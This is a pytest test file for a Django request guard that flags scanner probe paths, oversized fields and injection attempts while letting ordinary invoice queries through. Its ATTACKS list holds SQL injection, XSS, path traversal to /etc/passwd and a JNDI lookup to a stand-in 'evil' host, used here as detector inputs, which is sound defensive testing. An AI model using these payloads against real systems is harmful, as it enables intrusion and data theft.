"""What the detectors see in a request: probe paths, attack strings, trusted networks."""

from urllib.parse import urlencode

import pytest
from django.test import RequestFactory

from yanpiao.guard import detectors

ORDINARY = [
    "/",
    "/history/?outcome=not_found&seller=北京某某科技有限公司",
    "O'Brien & Sons Ltd.",
    "*信息技术服务*软件服务费",
    "请问为什么查验结果是 not_found？我输入了 2024-10-05 和 5347.85",
    "select the invoice and click verify",
    "../docs",
]
ATTACKS = [
    "1' OR '1'='1",
    "x UNION SELECT password FROM auth_user",
    "1; DROP TABLE registry_invoice",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "../../../../etc/passwd",
    "${jndi:ldap://evil/a}",
    "1 AND SLEEP(5)",
]


def form(fields: dict):
    """A form as a browser posts it (URL-encoded)."""
    return RequestFactory().post(
        "/tickets/", urlencode(fields), content_type="application/x-www-form-urlencoded"
    )


@pytest.mark.parametrize("path", ["/.env", "/.git/config", "/wp-admin/", "/phpmyadmin/index.php", "/x.asp"])
def test_known_probe_paths_are_recognised(path):
    assert detectors.probe_path(path)


@pytest.mark.parametrize("path", ["/", "/history/", "/api/v1/ping", "/help/privacy/", "/static/app.js"])
def test_the_sites_own_paths_are_not_probes(path):
    assert not detectors.probe_path(path)


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_strings_in_a_form_are_found(text, settings):
    assert detectors.payload_probe(form({"body": text})) == "injection"


@pytest.mark.parametrize("text", ORDINARY)
def test_what_people_type_is_not_taken_for_an_attack(text, settings):
    assert detectors.payload_probe(form({"body": text})) == ""
    assert detectors.payload_probe(RequestFactory().get("/history/", {"q": text})) == ""


def test_attack_strings_in_a_json_body_are_found():
    request = RequestFactory().post(
        "/api/v1/verifications", {"number": "1' OR '1'='1"}, content_type="application/json"
    )
    assert detectors.payload_probe(request) == "injection"


def test_an_oversized_field_is_a_probe_and_a_large_body_is_not_read(settings):
    settings.YANPIAO_GUARD_FIELD_MAX_CHARS = 100
    assert detectors.payload_probe(RequestFactory().get("/", {"q": "9" * 101})) == "oversized"
    settings.YANPIAO_GUARD_INSPECT_BYTES = 50
    assert detectors.payload_probe(form({"body": "<script>" + "x" * 60})) == ""


def test_only_addresses_of_the_trusted_networks_are_allowed(settings):
    settings.YANPIAO_GUARD_ALLOW = ["10.20.0.0/16", "2001:db8::/32"]
    assert detectors.allowed("10.20.3.4") and detectors.allowed("2001:db8::1")
    assert not detectors.allowed("10.21.0.1") and not detectors.allowed(None)
